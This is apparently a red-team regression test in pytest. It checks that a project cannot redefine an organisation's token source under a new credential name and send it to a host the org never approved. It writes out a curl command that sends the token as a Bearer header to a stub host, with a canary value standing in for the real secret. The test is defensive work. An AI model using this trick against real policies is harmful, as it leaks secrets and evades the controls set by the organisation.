"""Red team 16: the organisation defines a credential (`gh`: the real value of $MY_TOKEN, sent
only to the org's git host). A project may not redefine `gh`, but it defines its own credential
`mine` over the same source (`from: {env: MY_TOKEN}`) for another host it allows: the org's
token now goes where the org never said. The merge (policy/org.py) refuses only a redefinition
of the name, a source the org's env.deny/deny_read covers, or a host its network.deny names.

The oracle: the second server (the stub) receives the real token (the canary)."""

import json
import os
import shutil
import tempfile
from pathlib import Path

import pytest

from gatekit import hostport, netproject, servers
from harness import CANARY, attacker  # noqa: F401  (the fixture)

pytestmark = pytest.mark.skipif(os.path.lexists("/etc/envgit/policy.yaml") or os.geteuid() != 0
                                or shutil.which("socat") is None,
                                reason="needs root (the org file must be root's), socat, and no "
                                       "real /etc/envgit/policy.yaml")


def test_the_orgs_credential_source_is_not_sent_to_a_host_the_org_did_not_name(attacker):
    with servers() as (git, stub):
        d = tempfile.mkdtemp(prefix="envgit-org-")
        os.chmod(d, 0o755)
        org = Path(d) / "policy.yaml"
        org.write_text("version: 1\ncredentials:\n  gh:\n    from: {env: MY_TOKEN}\n"
                       f"    hosts: [\"{hostport(git)}\"]\n")
        org.chmod(0o644)
        try:
            attacker.env["MY_TOKEN"] = CANARY
            attacker.env["ENVGIT_ORG_POLICY"] = str(org)
            hp = hostport(stub, "stub.example.test")
            netproject(attacker, git, stub, "irreversible: []\n"
                       f"credentials:\n  mine:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hp}\"]\n")
            r = attacker.run(f"curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" https://{hp}/x; "
                             "echo ran")
            assert "ran" in r.stdout or r.returncode == 125, r.stdout + r.stderr
            got = [q for q in stub.requests if CANARY in json.dumps({k: v for k, v in q.items() if k != "body"})]
            assert not got, ("the org's credential gh (its source MY_TOKEN, for "
                             f"{hostport(git)} only) reached {hp} through the project's credential "
                             f"'mine': {got[:1]}")
        finally:
            attacker.stop()
            shutil.rmtree(d, ignore_errors=True)
